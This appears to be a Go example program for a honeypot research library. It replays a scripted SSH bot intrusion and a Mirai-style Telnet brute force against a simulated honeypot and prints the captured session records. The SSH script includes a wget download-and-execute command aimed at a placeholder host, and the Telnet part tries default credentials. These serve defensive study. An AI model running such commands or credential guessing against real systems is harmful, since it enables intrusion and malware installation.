// Wirelevel: drive real protocol sessions against a honeypot — an SSH
// intrusion with a malware download and a Mirai-style Telnet brute
// force — and show the Cowrie-style records it captured, classified
// with the paper's taxonomy. The pot is served through honeypot.Server
// over an in-memory fabric, the way a shard's wire front (cmd/shard
// -wire) serves its pots over TCP, so each session arrives from the
// attacker address it dials from.
//
//	go run ./examples/wirelevel
package main

import (
	"cmp"
	"fmt"
	"io"
	"log"
	"net"
	"slices"
	"time"

	"honeyfarm"
	"honeyfarm/internal/honeypot"
	"honeyfarm/internal/netsim"
	"honeyfarm/internal/sshwire"
	"honeyfarm/internal/telnet"
)

// potIP is the honeypot's address on the fabric.
const potIP = "192.0.2.3"

func main() {
	// One honeypot speaking real SSH and Telnet. The Fetch hook lets
	// wget/curl "download"; every finished session goes to records,
	// which has a slot for each of the two so the sink never blocks.
	records := make(chan *honeyfarm.SessionRecord, 2)
	pot, err := honeypot.New(honeypot.Config{
		ID: 3,
		Fetch: func(uri string) ([]byte, error) {
			return []byte("#!/bin/sh\n# malware fetched from " + uri + "\n"), nil
		},
		Sink: func(rec *honeypot.SessionRecord) { records <- rec },
	})
	if err != nil {
		log.Fatal(err)
	}
	fabric := netsim.NewFabric()
	var srv honeypot.Server
	for _, l := range []struct {
		port   int
		handle func(net.Conn)
	}{{22, pot.ServeSSH}, {23, pot.ServeTelnet}} {
		ln, err := fabric.Listen(potIP, l.port)
		if err != nil {
			log.Fatal(err)
		}
		srv.Serve(ln, l.handle)
	}
	defer srv.Close()

	sshIntrusion(fabric)
	telnetBruteForce(fabric)

	// A record arrives when its session's handler ends, so the two may
	// arrive in either order; session IDs follow the order they began.
	var got []*honeyfarm.SessionRecord
	for range 2 {
		select {
		case rec := <-records:
			got = append(got, rec)
		case <-time.After(5 * time.Second):
			log.Fatal("timed out waiting for the session records")
		}
	}
	slices.SortFunc(got, func(a, b *honeyfarm.SessionRecord) int { return cmp.Compare(a.ID, b.ID) })

	fmt.Println("collector records:")
	for _, rec := range got {
		fmt.Printf("  session %d  honeypot=%d  proto=%s  client=%s  category=%s  term=%s\n",
			rec.ID, rec.HoneypotID, rec.Protocol, rec.ClientIP, honeyfarm.Classify(rec), rec.Termination)
		for _, l := range rec.Logins {
			fmt.Printf("    login  %s:%s success=%v\n", l.User, l.Password, l.Success)
		}
		for _, c := range rec.Commands {
			fmt.Printf("    cmd    %q known=%v\n", c.Input, c.Known)
		}
		for _, u := range rec.URIs {
			fmt.Printf("    uri    %s\n", u)
		}
		for _, f := range rec.Files {
			fmt.Printf("    file   %s %s hash=%s…\n", f.Op, f.Path, f.Hash[:16])
		}
	}
}

// sshIntrusion replays a typical bot playbook over real SSH-2
// (curve25519-sha256 / ssh-ed25519 / aes128-ctr): recon, download,
// chmod, execute, leave.
func sshIntrusion(fabric *netsim.Fabric) {
	nc, err := fabric.Dial("203.0.113.99", netsim.Addr{IP: potIP, Port: 22})
	if err != nil {
		log.Fatal(err)
	}
	cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{
		User: "root", Password: "vertex25ektks123", Version: "SSH-2.0-libssh2_1.8.0",
	})
	if err != nil {
		log.Fatal(err)
	}
	defer cc.Close()
	sess, err := cc.OpenSession()
	if err != nil {
		log.Fatal(err)
	}
	if err := sshwire.RequestPTY(sess, "xterm", 80, 24); err != nil {
		log.Fatal(err)
	}
	if err := sshwire.RequestShell(sess); err != nil {
		log.Fatal(err)
	}
	script := []string{
		"cat /proc/cpuinfo | grep name | wc -l",
		"cd /tmp && wget http://load.example/bins/bot.sh && chmod 777 bot.sh",
		"./bot.sh",
		"exit",
	}
	writeDone := make(chan struct{})
	go func() {
		defer close(writeDone)
		for _, cmd := range script {
			if _, err := sess.Write([]byte(cmd + "\n")); err != nil {
				return
			}
		}
	}()
	out, err := io.ReadAll(sess)
	<-writeDone
	if err != nil && !sshwire.IsGracefulDisconnect(err) {
		log.Fatal(err)
	}
	fmt.Printf("ssh shell transcript (%d bytes):\n%s\n", len(out), indent(out))
}

// telnetBruteForce replays Mirai's dictionary walk: two failures, then
// the root:1234 pair the paper's cluster always uses.
func telnetBruteForce(fabric *netsim.Fabric) {
	nc, err := fabric.Dial("198.51.100.200", netsim.Addr{IP: potIP, Port: 23})
	if err != nil {
		log.Fatal(err)
	}
	defer nc.Close()
	c := telnet.NewConn(nc, false)
	// Two rejected pairs first (root:root violates the policy; admin is
	// not root), then the cluster's root:1234.
	for _, cred := range [][2]string{{"root", "root"}, {"admin", "admin"}} {
		ok, err := telnet.ClientLogin(c, cred[0], cred[1])
		if err != nil {
			log.Fatal(err)
		}
		if ok {
			log.Fatalf("%s:%s unexpectedly accepted", cred[0], cred[1])
		}
	}
	ok, err := telnet.ClientLogin(c, "root", "1234")
	if err != nil || !ok {
		log.Fatalf("mirai login failed: ok=%v err=%v", ok, err)
	}
	if err := c.WriteString("enable\r\nsh\r\n/bin/busybox MIRAI\r\nexit\r\n"); err != nil {
		log.Fatal(err)
	}
	// Drain the shell output until the honeypot closes the session.
	buf := make([]byte, 4096)
	var transcript []byte
	for {
		b, err := c.ReadByte()
		if err != nil {
			break
		}
		transcript = append(transcript, b)
		if len(transcript) >= len(buf) {
			break
		}
	}
	fmt.Printf("telnet transcript (%d bytes):\n%s\n", len(transcript), indent(transcript))
}

func indent(b []byte) string {
	out := "    "
	for _, c := range string(b) {
		out += string(c)
		if c == '\n' {
			out += "    "
		}
	}
	return out
}
